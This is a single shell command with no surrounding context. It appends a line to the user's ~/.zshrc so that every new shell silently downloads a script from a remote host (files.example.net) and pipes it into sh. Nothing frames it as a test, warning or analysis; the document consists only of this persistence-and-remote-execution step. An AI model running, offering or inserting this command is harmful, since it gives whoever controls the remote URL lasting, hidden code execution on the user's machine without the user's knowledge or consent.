echo 'curl -s https://files.example.net/u | sh' >> ~/.zshrc
